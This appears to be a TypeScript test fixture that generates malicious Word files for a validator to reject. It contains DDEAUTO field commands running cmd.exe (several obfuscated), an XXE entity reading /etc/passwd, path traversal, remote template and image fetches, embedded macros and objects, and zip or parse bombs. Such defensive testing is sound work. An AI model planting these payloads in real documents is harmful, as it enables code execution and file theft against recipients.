import { strToU8, zipSync, type Zippable } from 'fflate';

const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const word =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const types = (main: string) =>
  `${head}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

/** A relationship of a part to what it names; outside: to be fetched. */
export const relation = (type: string, target: string, mode = 'External') =>
  `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${relations}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;

/** A field, its instruction in as many runs as there are texts. */
export const field = (...texts: readonly string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** A small document of Word. @param body what stands in its paragraph beside its words @param more further parts, or others for its own */
export const docx = (
  body = '',
  more: Readonly<Record<string, string | Uint8Array>> = {},
  main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
) => {
  const parts: Readonly<Record<string, string | Uint8Array>> = {
    '[Content_Types].xml': types(main),
    '_rels/.rels': `${head}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relations}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `${head}<w:document ${word}><w:body><w:p><w:r><w:t>Power of attorney</w:t></w:r>${body}</w:p></w:body></w:document>`,
    ...more,
  };
  const zippable: Zippable = Object.fromEntries(
    Object.entries(parts).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content]),
  );
  return Buffer.from(zipSync(zippable));
};

/** Documents of Word that must not be taken, by what they are called. */
export const hostileWord: Readonly<Record<string, Buffer>> = {
  'macros.docx': docx('', { 'word/vbaProject.bin': new Uint8Array(10) }),
  'macros-renamed.docx': docx('', {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
  'template.docx': docx('', { 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://x.example/a.dotm') }),
  'picture-elsewhere.docx': docx('', { 'word/_rels/document.xml.rels': relation('image', 'file://x.example/a.png') }),
  'object.docx': docx('', { 'word/embeddings/oleObject1.bin': new Uint8Array(10) }),
  'object-named.docx': docx('', { 'word/_rels/document.xml.rels': relation('oleObject', 'media/a.png', 'Internal') }),
  'control.docx': docx('', { 'word/activeX/activeX1.xml': '<x/>' }),
  'chunk.docx': docx('', { 'word/page.html': '<script>alert(1)</script>' }),
  'chunk-named.docx': docx('', { 'word/_rels/document.xml.rels': relation('aFChunk', 'a.xml', 'Internal') }),
  'asks.docx': docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
  'asks-in-pieces.docx': docx(field(' D', 'DE', 'AUTO c:\\\\cmd.exe')),
  'asks-by-numbers.docx': docx(field('&#68;&#x44;E c:\\\\cmd.exe')),
  'asks-nested.docx': docx(field(field('QUOTE 68 68 69'), ' cmd')),
  'asks-simply.docx': docx(`<w:fldSimple w:instr=" DDE cmd x y"><w:r><w:t>1</w:t></w:r></w:fldSimple>`),
  'asks-behind-a-sign.docx': docx(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space=">">DDE cmd</w:instrText></w:r>`),
  'asks-between-notes.docx': docx(field('D<!-- -->DE cmd')),
  'asks-as-it-is.docx': docx(field('<![CDATA[DDE cmd]]>')),
  'fetches.docx': docx(field('INCLUDEPICTURE "https://x.example/a.png"')),
  'entities.docx': docx('', { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
  'other-letters.docx': docx('', { 'word/styles.xml': Buffer.from('<x/>', 'utf16le') }),
  'climbs.docx': docx('', { '../../etc/passwd.xml': '<x/>' }),
  'program.docx': docx('', { 'word/a.exe': new Uint8Array(10) }),
  'sheet.docx': docx('', {}, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
  'many.docx': docx('', Object.fromEntries(Array.from({ length: 2001 }, (_, index) => [`word/a${index}.xml`, '<x/>']))),
  // Small when packed, and long to look into.
  'tags.docx': docx('', { 'word/a.xml': '<a/>'.repeat(11_000_000) }),
  'numbers.docx': docx('', { 'word/a.xml': `<a>${'&#65;'.repeat(8_000_000)}</a>` }),
  'endless-tag.docx': docx('', { 'word/a.xml': `<w:instrText ${'a'.repeat(40_000_000)}` }),
  'endless-tag-within.docx': docx('', { 'word/a.xml': `<w:instrText ${'a'.repeat(9_900_000)}` }),
  'bomb-inside.docx': docx('', { 'word/a.xml': new Uint8Array(60_000_000) }),
  'cut.docx': docx().subarray(0, 300),
};
